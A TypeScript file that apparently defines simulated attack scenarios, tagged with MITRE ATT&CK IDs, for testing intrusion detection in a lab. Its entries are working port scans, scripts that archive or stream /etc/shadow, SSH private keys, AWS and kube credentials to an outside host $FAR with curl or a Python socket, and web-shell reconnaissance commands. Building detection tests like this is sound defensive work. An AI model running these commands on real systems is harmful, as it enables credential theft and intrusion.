import { scenarios, WWW_DATA } from "../scenario.ts";

/** Looking around, and carrying out. */
export const NETWORK = scenarios([
  {
    id: "scan.python",
    title: "five hundred ports in a neighbourhood",
    techniques: ["T1046", "T1018"],
    variant: "scripted",
    uid: WWW_DATA,
    needs: ["python3"],
    script: `act; python3 -c 'import socket,time
for h in range(1,11):
  for p in (21,22,23,25,53,80,88,110,111,135,139,143,389,443,445,636,993,995,1433,1521,2049,2375,3306,3389,4444,5432,5900,5985,6379,6443,7001,8000,8080,8443,8888,9000,9042,9092,9200,9300,10250,11211,15672,27017,50000,50070,61616,2379,5601,8086):
    s=socket.socket(); s.settimeout(0.05); s.connect_ex(("10.20.0.%d"%h,p)); s.close()
time.sleep(0.5)'`,
  },
  {
    id: "scan.bash-slow",
    title: "bash knocks at twenty ports a second",
    techniques: ["T1046", "T1018", "T1059.004"],
    variant: "slow",
    seconds: 12,
    script:
      "act; timeout 8 bash -c 'for p in $(seq 1 160); do (exec 3<>/dev/tcp/10.20.0.9/$p) 2>/dev/null; sleep 0.03; done'",
  },
  {
    id: "exfiltration.tar-curl",
    title: "an archive of homes and keys, posted to a machine outside",
    techniques: ["T1041", "T1048", "T1560", "T1560.001", "T1552", "T1552.004", "T1003.008", "T1071"],
    needs: ["curl", "tar"],
    script:
      "act; tar czf /tmp/.a.tgz /root/.ssh /root/.aws /home/ann /etc/shadow 2>/dev/null; curl -s --data-binary @/tmp/.a.tgz http://$FAR/upload; rm -f /tmp/.a.tgz; sleep 0.5",
  },
  {
    id: "exfiltration.python",
    title: "python reads keys and sends them through one connection",
    techniques: ["T1041", "T1048", "T1552", "T1552.001", "T1552.004", "T1003.008", "T1071"],
    variant: "scripted",
    needs: ["python3"],
    script: `act; python3 -c 'import os,socket,time
s=socket.create_connection((os.environ["FAR"],8443))
for f in ("/etc/shadow","/root/.ssh/id_rsa","/home/ann/.ssh/id_rsa","/root/.aws/credentials","/root/.kube/config"): s.sendall(open(f,"rb").read())
time.sleep(0.5)'`,
  },
  {
    id: "web-shell.commands",
    title: "a web shell: each request a command of the intruder's",
    techniques: ["T1505", "T1505.003", "T1059", "T1059.004", "T1190", "T1033"],
    uid: WWW_DATA,
    quick: true,
    script:
      "act; sh -c id; sh -c 'uname -a'; sh -c 'cat /etc/passwd'; sh -c 'whoami; hostname; ps aux; ss -tlnp'; sh -c 'ls -la /root /home'; sleep 0.5",
  },
  {
    id: "web-shell.slow",
    title: "the same, a command every two seconds, while the server goes on serving",
    techniques: ["T1505", "T1505.003", "T1059", "T1059.004", "T1190", "T1033"],
    variant: "interleaved",
    uid: WWW_DATA,
    seconds: 14,
    script: "act; for c in id 'uname -a' 'cat /etc/passwd' 'ps aux' 'ls -la /home'; do sh -c \"$c\"; sleep 2; done",
  },
]);
